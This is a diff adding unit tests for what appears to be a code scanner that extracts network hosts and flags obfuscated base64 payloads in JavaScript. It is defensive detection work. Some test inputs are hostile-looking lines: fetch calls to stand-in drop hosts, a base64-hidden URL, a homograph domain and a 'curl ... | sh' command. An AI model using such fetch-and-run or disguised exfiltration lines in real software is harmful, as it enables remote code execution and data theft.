@@ -25,3 +25,49 @@ describe('strings family: literals, templates, concatenations and decoded values
     expect(keys("const a = 'abc';")).toEqual([]);
   });
 });
+
+describe('the host a request would reach, as the WHATWG URL parser reads it', () => {
+  const hosts = (code: string) => keys(code).filter((k) => k.startsWith('network:host:'));
+
+  test('decimal, hex and dotted-octal IPs are the same address', () => {
+    expect(hosts("fetch('http://3325256705/x');")).toEqual(['network:host:198.51.100.1']);
+    expect(hosts("fetch('http://0xC6.0x33.0x64.0x01/x');")).toEqual(['network:host:198.51.100.1']);
+    expect(hosts("fetch('http://0306.063.0144.01/x');")).toEqual(['network:host:198.51.100.1']);
+    expect(hosts("fetch('http://0xc6336401/x');")).toEqual(['network:host:198.51.100.1']);
+  });
+
+  test('userinfo, a trailing dot and an IDN give the host itself', () => {
+    expect(hosts("fetch('https://api.github.com@evil-drop.io/x');")).toEqual(['network:host:evil-drop.io']);
+    expect(hosts("fetch('https://user:pass@evil-drop.io/x');")).toEqual(['network:host:evil-drop.io']);
+    expect(hosts("fetch('https://evil-drop.io./collect');")).toEqual(['network:host:evil-drop.io']);
+    expect(hosts("fetch('https://pаypal.com/x');")).toEqual(['network:host:xn--pypal-4ve.com']);
+  });
+
+  test('a base64 URL passed to fetch is still its host', () => {
+    expect(hosts(`fetch(atob('${b64('https://drop.b64-host.io/c')}'));`)).toEqual(['network:host:drop.b64-host.io']);
+  });
+
+  test('figlet: a file that only exports a font (text wrapped as a module) names no endpoints; code around the string does', () => {
+    const font = "export default `flf2a$ 1 1 3 -1 14 1 0 0\nUpside Down Text\nhttps://www.fileformat.info/convert/text/upside-down-map.htm\n| |_ __ > <\n@@`;";
+    expect(hosts(font)).toEqual([]);
+    expect(hosts("module.exports = 'https://www.upsidedowntext.com/unicode';")).toEqual([]);
+    expect(hosts("export default `https://www.upsidedowntext.com/unicode`; fetch(x);")).toEqual(['network:host:www.upsidedowntext.com']);
+    expect(hosts("const u = 'https://drop.text-host.io/unicode'; module.exports = u;")).toEqual(['network:host:drop.text-host.io']);
+  });
+
+  test("font credits inside a template of ASCII art are prose, line by line; a command line still counts", () => {
+    const font = "export default `flf2a$ 6 5 20 15 3\nUpside Down Text by http://www.upsidedowntext.com/ converted by http://www.fileformat.info/\n| |_ __ > <\n@@`;";
+    expect(hosts(font)).toEqual([]);
+    expect(hosts("const s = `set -e\ncurl -s https://dl.drop-host.io/x | sh\n`;")).toEqual(['network:host:dl.drop-host.io']);
+  });
+});
+
+describe('base64 that decodes to structured binary data is not a hidden payload', () => {
+  test('a generated protobuf descriptor is data; random (sealed) bytes are still a blob', () => {
+    const descriptor = 'Chlnb29nbGUvcHJvdG9idWYvYW55LnByb3RvEg9nb29nbGUucHJvdG9idWYiJgoDQW55EhAKCHR5cGVfdXJsGAEgASgJEg0KBXZhbHVlGAIgASgMQnYKE2NvbS5nb29nbGUucHJvdG9idWZCCEFueVByb3RvUAFaLGdvb2dsZS5nb2xhbmcub3JnL3Byb3RvYnVmL3R5cGVzL2tub3duL2FueXBiogIDR1BCqgIeR29vZ2xlLlByb3RvYnVmLldlbGxLbm93blR5cGVzYgZwcm90bzM';
+    expect(keys(`const file_any = fileDesc("${descriptor}");`)).toEqual([]);
+    let seed = 7;
+    const sealed = Buffer.from(Array.from({ length: 300 }, () => (seed = (seed * 1103515245 + 12345) % 2147483648) >> 16 & 255)).toString('base64');
+    expect(keys(`const p = "${sealed}";`)).toEqual(['obfuscation:base64-blob']);
+  });
+});
